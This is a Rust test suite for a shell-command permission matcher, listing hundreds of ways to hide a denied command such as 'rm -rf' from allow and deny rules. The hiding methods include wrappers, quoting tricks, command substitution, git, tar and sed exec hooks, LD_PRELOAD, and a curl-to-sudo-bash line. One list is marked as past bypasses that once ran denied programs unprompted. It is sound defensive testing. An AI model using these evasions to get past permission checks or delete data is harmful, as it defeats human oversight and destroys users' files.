//! Tests of which commands rules match.

use super::*;

fn fit(rule: &str, command: &str) -> Match {
    CommandPattern::new(rule).unwrap().fits_a_part(&ComparedCommand::new(command))
}

#[test]
fn a_denied_program_is_found_behind_every_wrapper() {
    let bypasses = [
        "rm -rf x",
        "sudo rm -rf x",
        "sudo -u root rm -rf x",
        "sudo -n -u root -- rm -rf x",
        "doas rm -rf x",
        "timeout 5 rm -rf x",
        "timeout -k 1 5s rm -rf x",
        "timeout --signal=KILL 5 rm -rf x",
        "nice rm -rf x",
        "nice -n 5 rm -rf x",
        "nohup rm -rf x &",
        "setsid -w rm -rf x",
        "stdbuf -oL rm -rf x",
        "ionice -c 3 rm -rf x",
        "time rm -rf x",
        "command rm -rf x",
        "command -p rm -rf x",
        "builtin exec rm -rf x",
        "exec -a ls rm -rf x",
        "env rm -rf x",
        "env -i A=1 rm -rf x",
        "env -S 'rm -rf x'",
        "env -S'rm -rf x'",
        "env --split-string='rm -rf x'",
        "A=1 B=2 rm -rf x",
        "/bin/rm -rf x",
        "../../bin/rm -rf x",
        "~/bin/rm -rf x",
        r"r\m -rf x",
        r"\rm -rf x",
        "'rm' -rf x",
        "r''m -rf x",
        "\"r\"m -rf x",
        "r\\\nm -rf x",
        "rm '-rf' x",
        "rm\t-rf x",
        ">/dev/null rm -rf x",
        "2>&1 rm -rf x",
        "<in rm -rf x",
        "ls; rm -rf x",
        "ls && rm -rf x",
        "ls || rm -rf x",
        "ls & rm -rf x",
        "ls\nrm -rf x",
        "ls | rm -rf x",
        "(rm -rf x)",
        "{ rm -rf x; }",
        "! rm -rf x",
        "if true; then rm -rf x; fi",
        "if rm -rf x; then :; fi",
        "for i in 1; do rm -rf x; done",
        "while rm -rf x; do :; done",
        "case a in a) rm -rf x;; esac",
        "f() { rm -rf x; }; f",
        "function f { rm -rf x; }; f",
        "echo $(rm -rf x)",
        "echo \"$(rm -rf x)\"",
        "echo `rm -rf x`",
        "echo \"${a:-$(rm -rf x)}\"",
        "cat <(rm -rf x)",
        "cat <<EOF\n$(rm -rf x)\nEOF",
        "a=$(rm -rf x)",
        "echo $(case a in a) rm -rf x;; esac)",
        "sh -c 'rm -rf x'",
        "bash -lc 'rm -rf x'",
        "bash -o pipefail -ec 'ls; rm -rf x'",
        "/usr/bin/env bash -c \"rm -rf x\"",
        "su root -c 'rm -rf x'",
        "script -qc 'rm -rf x' /dev/null",
        "eval rm -rf x",
        "eval 'rm -rf x'",
        "sh -c 'sh -c \"rm -rf x\"'",
        "find . -exec rm -rf x \\;",
        "find . -name a -execdir rm -rf x +",
        "xargs rm -rf x",
        "ls | xargs -n 1 rm -rf x",
        "ls | xargs -I{} rm -rf x",
        "parallel rm -rf x",
        "watch rm -rf x",
        "watch 'rm -rf x'",
        "busybox rm -rf x",
        "trap 'rm -rf x' EXIT",
        "trap -- 'rm -rf x' EXIT",
        "$'rm' -rf x",
        "$'\\x72m' $'-\\162f' x",
        "'time' -o log rm -rf x",
        "flock lock rm -rf x",
        "flock lock -c 'rm -rf x'",
        "flock --command 'rm -rf x' lock",
        "prlimit --nofile=10 rm -rf x",
        "setarch -R rm -rf x",
        "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf x",
        "runuser -u me rm -rf x",
        "runuser me -c 'rm -rf x'",
        "unshare -r rm -rf x",
        "chroot / rm -rf x",
        "systemd-run --user rm -rf x",
        "perf stat rm -rf x",
        "hyperfine 'rm -rf x'",
        "uv run rm -rf x",
        "bash -c -o pipefail 'rm -rf x'",
        "rsync -e 'rm -rf x' a b",
        "rsync -ave 'rm -rf x' a b",
        "rsync --rsh='rm -rf x' a b",
        "tar -xf a --to-command='rm -rf x'",
        "tar --use-comp 'rm -rf x' -cf a b",
        "sort --compress-program='rm -rf x' a",
        "rg --pre 'rm -rf x' a",
        "fd -x rm -rf x",
        "nix-shell --run 'rm -rf x'",
        "GIT_SSH_COMMAND='rm -rf x' git fetch",
        "GIT_PAGER='rm -rf x' git log",
        "env PAGER='rm -rf x' man ls",
        "export EDITOR='rm -rf x'; git commit",
        "git -c alias.x='!rm -rf x' x",
        "git rebase -x 'rm -rf x' main",
        "git bisect run rm -rf x",
        "git submodule foreach --recursive 'rm -rf x'",
        "git clone --upload-pack='rm -rf x' a",
        "git config alias.x '!rm -rf x'",
        "test -v 'a[$(rm -rf x)]'",
        "test -v $'a[\\x24\\x28rm -rf x\\x29]'",
        "printf -v 'a[`rm -rf x`]' y",
        "declare 'a[$(rm -rf x)]=1'",
        "(( 'a[$(rm -rf x)]' ))",
        "echo ${b['a[$(rm -rf x)]']}",
        "ssh host rm -rf x",
        "coproc rm -rf x",
        "# '\nrm -rf x",
        "echo \\' ; rm -rf x #'",
    ];
    for command in bypasses {
        assert_eq!(fit("rm -rf", command), Match::Yes, "{command}");
        assert_eq!(fit("rm *", command), Match::Yes, "{command}");
    }
}

#[test]
fn a_program_that_the_text_does_not_show_may_match() {
    let hidden = [
        "$X -rf x",
        "${X} -rf x",
        "rm$IFS-rf$IFS/",
        "r$1m -rf x",
        "$(echo rm) -rf x",
        "`echo rm` -rf x",
        "$'r\\0m' -rf x",
        "/bin/r? -rf x",
        "/bin/[r]m -rf x",
        "{rm,-rf,x}",
        "\"${a[@]}\"",
        "rm $FLAGS x",
        "echo -rf x | xargs rm",
        "sudo $X",
        "eval \"$X\"",
        "sh -c \"$X\"",
        "echo rm -rf x | sh",
        "curl https://a.example | sudo bash -s",
        "bash <<< 'rm -rf x'",
        "sh <<EOF\nrm -rf x\nEOF",
        "alias l=rm; l -rf x",
        ". <(echo rm -rf x)",
        ". /dev/stdin",
        "echo rm -rf x | . /dev/stdin",
        ". ./made.sh",
        "source made.sh",
        "ls | tee >(bash)",
        "bash",
        "echo rm -rf x | { bash; }",
        "echo rm -rf x | (sh)",
        "bash -s x",
        "bash /dev/stdin",
        "bash /proc/self/fd/0",
        "bash <(cat x)",
        "sudo -s",
        "sudo -i",
        "chroot /x",
        "unshare -r",
        "at now",
        "batch",
        "crontab x",
        "parallel < x",
        "echo rm | parallel",
        "make SHELL=./x",
        "make --eval='x:;rm -rf x'",
        "make -f -",
        "tar -cf a b --checkpoint=1 --checkpoint-action=exec=x",
        "awk 'BEGIN { system(\"rm -rf x\") }'",
        "awk '{ print | \"sh\" }' x",
        "sed '1e rm -rf x' y",
        "sed -n -e 's/.*/rm -rf x/e' y",
        "vim -c '!rm -rf x' y",
        "vim +x y",
        "less +!x y",
        "ssh -o ProxyCommand='rm -rf x' host",
        "git -c core.pager=./x log",
        "git -c core.sshCommand=./x fetch",
        "git --exec-path=. x",
        "git --config-env=core.pager=X log",
        "git config core.fsmonitor ./x",
        "git clone ext::./x y",
        "git clone -c core.hooksPath=x y",
        "git clone -ccore.hooksPath=/p y",
        "git clone -qc core.hooksPath=/p y",
        "git clone --conf=core.hooksPath=/p y",
        "git clone --conf core.hooksPath=/p y",
        "git clone --templ=./t y",
        "git init --te ./t",
        "git config --rename-section color.x core",
        "git config rename-section color.x core",
        "git config --comment get core.fsmonitor ./x",
        "git config --global --type path core.fsmonitor ./x",
        "git filter-branch --setup ./x",
        "tar cIf ./x o.tar y",
        "tar cFf ./x o.tar y",
        "cargo build --config 'build.rustc-wrapper=\"./x\"'",
        "cargo build --config=x.toml",
        "cargo -Zscript x.rs",
        "go test -exec ./x",
        "go build -toolexec=./x",
        "go vet --vettool=./x",
        "bwrap --bind / / ls",
        "setarch i686 ls",
        "firejail --join x ls",
        "proot -b a ls",
        "nsenter -t 1 -m ls",
        "capsh --user=x -- -x",
        "GIT_CONFIG_COUNT=1 git log",
        "LD_PRELOAD=./x.so ls",
        "BASH_ENV=x bash y.sh",
        "export LD_PRELOAD=./x.so",
        "x='a[$(rm -rf x)]'; (( x ))",
        "enable -f ./x.so x",
        "hash -p /bin/rm ls; ls -rf x",
        "mapfile -C x y",
        "compgen -W '$(rm -rf x)'",
        "socat - EXEC:./x",
        "xargs -I{} {} -rf x",
        "find . -exec {} -rf x \\;",
        "ls 'rm -rf x",
        "cat <<'EOF'\n$(rm -rf x)\nEOF",
        "ls # rm -rf x",
    ];
    for command in hidden {
        assert_eq!(fit("rm -rf", command), Match::Maybe, "{command}");
    }
}

#[test]
fn a_command_that_only_mentions_a_program_does_not_match() {
    let harmless = [
        "echo rm -rf x",
        "grep 'rm -rf' x",
        "timeout 5 grep rm x",
        "sudo -u root ls rm",
        "git commit -m 'rm -rf x; gone'",
        "rm x",
        "farm -rf x",
        "ls $HOME",
        "cargo test > $OUT",
        "bash build.sh",
        "find . -name rm -rf",
        "git -c color.ui=never log",
        "git -c user.name='A B' commit -m 'x = y'",
        "git config user.name",
        "git config --global user.name 'A. B'",
        "git config --get core.fsmonitor x",
        "git config --global --get-regexp core x",
        "git clone -c color.ui=never --depth 1 url",
        "cargo run -- --config x",
        "cargo test --release",
        "go test -run Exec ./...",
        "tar czf a.tar.gz b",
        "git switch -c rm",
        "PAGER=cat git log",
        "make -j8 all",
        "sed -n '1,5p' rm",
        "sed -i 's/here/there/g' x",
        "awk '{ print $1 }' x",
        "rsync -av -e 'ssh -p 22' a b",
        "ssh host ls",
        "vim x",
        "test -f x && [ -n \"$A\" ]",
        "crontab -l",
        "tar -czf a.tar.gz b",
        "timeout 5 make",
    ];
    for command in harmless {
        assert_eq!(fit("rm -rf", command), Match::No, "{command}");
    }
}

#[test]
fn allowing_covers_a_plain_command_and_only_programs_that_the_rule_names() {
    let fits = |rule: &str, command: &str| CommandPattern::new(rule).unwrap().fits_all(&ComparedCommand::new(command));
    let allowed = [
        ("git status", "git status -s"),
        ("git status", "git 'status'"),
        ("cargo *", "cargo test -p x"),
        ("ls", "ls *.rs ~/x"),
        ("timeout * cargo test*", "timeout 60 cargo test x"),
        ("timeout 60 cargo test", "timeout 60 cargo test x"),
        ("timeout * cargo test*", "timeout 1.5m cargo test"),
        ("test -f", "test -f x"),
        ("./x.sh", "./x.sh a"),
    ];
    for (rule, command) in allowed {
        assert!(fits(rule, command), "{rule}: {command}");
    }
    let asked = [
        ("ls", "ls $X"),
        ("ls", "ls $'a'"),
        ("l*", "l*"),
        ("test -f", "test -f x -o -v $'a[\\x24\\x28touch P\\x29]'"),
        ("test", "test -v a*"),
        ("printf *", "printf -v $'a[\\x24\\x28touch P\\x29]' x"),
        ("git *", "git -c alias.x=!./x x"),
        ("find *", "find . -exec rm x +"),
        ("timeout *", "timeout 5 rm x"),
        ("env", "env rm x"),
        ("git log", "GIT_PAGER=./x git log"),
        ("tar", "tar -xf a --to-command=./x"),
        ("tar", "tar -xf a.tar --to-command=./tar"),
        ("git*", "git=1 rm -rf x"),
        ("time *", "time ./evil"),
        ("coproc *", "coproc ./evil"),
        ("* cargo test*", "RUSTC_WRAPPER=./evil cargo test"),
        ("* cargo test*", "A=1 cargo test"),
        ("timeout * cargo test*", "timeout 5 ./1 cargo test"),
        ("timeout * cargo test*", "timeout 5 1x cargo test"),
        ("timeout * cargo test*", "timeout 5 ./cargo x cargo test"),
        ("timeout *", "timeout 5 './*'"),
        ("timeout *", "timeout 5 '*'"),
        ("cargo *", "cargo build --config 'build.rustc-wrapper=\"./x\"'"),
        ("go *", "go test -exec ./x"),
    ];
    for (rule, command) in asked {
        assert!(!fits(rule, command), "{rule}: {command}");
    }
}

/// Each of these once ran a denied program without a question.
#[test]
fn a_denied_program_is_asked_about_wherever_it_is_mentioned() {
    for command in [
        "time -p ! rm v",
        "set -- a; for x do rm v; done",
        "set -- a; select x do rm v; break; done <<< 1",
        "function f while rm v; do break; done; f",
        "function f if rm v; then :; fi; f",
        "coproc C if rm v; then :; fi; wait",
        "time -p if rm v; then :; fi",
        "echo <(true)#; rm v",
        "a=(1 2)#; rm v",
        "a=(1 2)#x; rm v",
        "shopt -s extglob\n: @(a)#; rm v",
        "declare -A a; a[ #]=1; rm v",
        "a[ 1 ]=2; declare -A b; b[x #]=1; rm v",
        "declare -A a; : $[ a[ #] ]; rm v",
        "cat <<$x\nhello\n$x\nrm v\n",
        "cat <<\"$x\"\nhello\n$x\nrm v\n",
        "echo $(time -p case x in x) rm v;; esac)",
        "echo $(coproc C case x in x) rm v;; esac)",
        "echo $(function f case x in x) rm v;; esac; f)",
        "echo \"${x#'\"'}\"; rm v; : \"}\" '}\" #'",
        "x='$(rm v)'; : \"${x@P}\"",
        "shopt -s expand_aliases\nBASH_ALIASES[lz]=rm\nlz v",
        "BASH_CMDS[lz]=/bin/rm; lz v",
        "read x <<< 'a[$(rm v)]'; ((x)); :",
        "for x in 'a[$(rm v)]'; do ((x)); done; :",
        "f() { (( $1 )); }; f 'a[$(rm v)]'; :",
        "read x <<'E'\na[$(rm v)]\nE\n((x)); :",
        "for x in 'a[$(rm v)]'; do : ${!x}; done",
        "sed -n --expr='1e rm v' p",
        "sed -n -l 5 '1e rm v' p",
        "sed ':a e rm v' p",
        "sed 'bz e rm v\n:z' p",
        "sed 'tz e rm v\n:z' p",
        "ssh -o 'ProxyCommand rm v' x",
        "sftp -o 'ProxyCommand=rm v' x",
        "sftp -D 'rm v'",
        "git fetch-pack --exec='rm ../v;' . HEAD",
        "git send-pack --receive-pack='rm ../v;' . HEAD",
        "dc -e '!rm v'",
        "gawk 'BEGIN{f=\"sys\" \"tem\"; @f(\"rm v\")}'",
        "cd /dev; bash stdin <<< \"rm $OLDPWD/v\"",
        "tmux -L q2 start-server \\; run-shell 'rm v'",
        "su --comm='rm v' root",
        "env --split='rm v'",
        "read PS4 <<< '$(rm v)'; set -x; :",
        "for PS4 in '$(rm v)'; do set -x; :; done",
        "echo 'rm v' > rc; for BASH_ENV in rc; do export BASH_ENV; bash -c :; done",
    ] {
        assert_ne!(fit("rm", command), Match::No, "{command}");
        assert_ne!(fit("rm *", command), Match::No, "{command}");
    }
}

#[test]
fn a_program_that_can_run_others_is_covered_only_with_harmless_options() {
    let fits = |rule: &str, command: &str| CommandPattern::new(rule).unwrap().fits_all(&ComparedCommand::new(command));
    for (rule, command) in [
        ("sed", "sed -n -l 5 '1e touch P' p"),
        ("sed", "sed -n --line-length 5 '1e touch P' p"),
        ("sed", "sed -n --expr='1e touch P' p"),
        ("sed", "sed ':a e touch P' p"),
        ("sftp", "sftp -o 'ProxyCommand=touch P' x"),
        ("sftp", "sftp -D 'touch P'"),
        ("scp", "scp -o 'ProxyCommand touch P' p x:y"),
        ("git *", "git fetch-pack --exec='touch P' . HEAD"),
        ("git", "git send-pack --receive-pack='touch P' . HEAD"),
        ("git", "git --git-dir=bare --work-tree=. status"),
        ("env", "env --split='touch P'"),
        ("su", "su --comm='touch P' root"),
        ("bash", "bash --rcfile rc -i"),
        ("wget", "wget --use-askpass=./ask.sh http://127.0.0.1:9/"),
        ("timeout * sed *", "timeout 5 sed --expr=1p p"),
    ] {
        assert!(!fits(rule, command), "{rule}: {command}");
    }
    for (rule, command) in [
        ("sed", "sed -n 1,5p x"),
        ("git *", "git -C x log --oneline -5"),
        ("git *", "git push --force-with-lease"),
        ("tar", "tar czf a.tgz b"),
        ("env --chdir=/x ls", "env --chdir=/x ls -l"),
        ("make *", "make -j8 all"),
    ] {
        assert!(fits(rule, command), "{rule}: {command}");
    }
}

#[test]
fn a_long_command_is_asked_about_and_costs_little() {
    for command in
        [format!("{}ls", "A=1 ".repeat(8_000)), format!("tmux{}", " -x y".repeat(6_000)), "x ".repeat(20_000)]
    {
        assert_ne!(fit("curl", &command), Match::Yes);
    }
    assert_eq!(fit("curl", &"ls ".repeat(20_000)), Match::Maybe);
}

#[test]
fn options_before_a_subcommand_do_not_hide_it() {
    for command in ["git push", "git -C x push", "git --no-pager -c a=b push", "git --git-dir=x push origin"] {
        assert_eq!(fit("git push", command), Match::Yes, "{command}");
    }
    assert_eq!(fit("git push", "git log push"), Match::No);
    assert_eq!(fit("git push", "git $X"), Match::Maybe);
}
